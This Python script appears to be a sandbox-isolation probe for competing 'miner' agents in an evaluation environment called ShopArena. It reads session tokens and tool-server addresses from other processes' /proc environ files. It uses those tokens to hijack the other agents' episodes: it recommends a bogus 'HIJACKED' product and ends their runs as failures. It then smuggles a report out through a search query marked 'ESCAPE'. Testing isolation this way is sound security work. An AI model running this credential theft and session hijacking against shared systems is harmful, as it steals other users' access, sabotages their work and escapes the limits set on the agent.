"""Reads other miners' session tokens (and where their tool server is) from /proc/<pid>/environ and
recommends and terminates on those miners' episodes; run with two workers, each copy is both attacker
and victim. It waits a moment first, so the other copy is running when it looks."""

import json
import os
import time

import miner_sdk

KEYS = ("SHOPARENA_SESSION", "SHOPARENA_TOOL_URL", "SHOPARENA_PROXY_SOCKET")


def foreign_sessions():
    own = os.environ.get("SHOPARENA_SESSION")
    seen, found = 0, []
    for pid in (p for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                pairs = [item.decode(errors="replace").partition("=") for item in handle.read().split(b"\0")]
        except OSError:
            continue
        seen += 1
        env = {key: value for key, _, value in pairs if key in KEYS}
        if env.get("SHOPARENA_SESSION") and env["SHOPARENA_SESSION"] != own:
            found.append(env)
    return seen, found


def hijack(env):
    """Call the victim's tools with its token, at its server's address when one is known."""
    saved = dict(os.environ)
    os.environ.update(env)
    try:
        miner_sdk.call_tool("recommend_product", product_ids="HIJACKED")
        return miner_sdk.call_tool("terminate", status="failure")["ok"]
    except Exception as exc:
        return f"{type(exc).__name__}: {exc}"
    finally:
        os.environ.clear()
        os.environ.update(saved)


def agent_main(problem_data):
    time.sleep(1.0)
    seen, found = foreign_sessions()
    hijacked = [hijack(env) for env in found]
    report = {"processes": seen, "foreign_sessions": len(found), "hijacked": hijacked}
    miner_sdk.call_tool("find_product", q="ESCAPE " + json.dumps(report, sort_keys=True))
    time.sleep(0.5)  # still running while the other copy looks
    miner_sdk.call_tool("terminate", status="success")
    return []
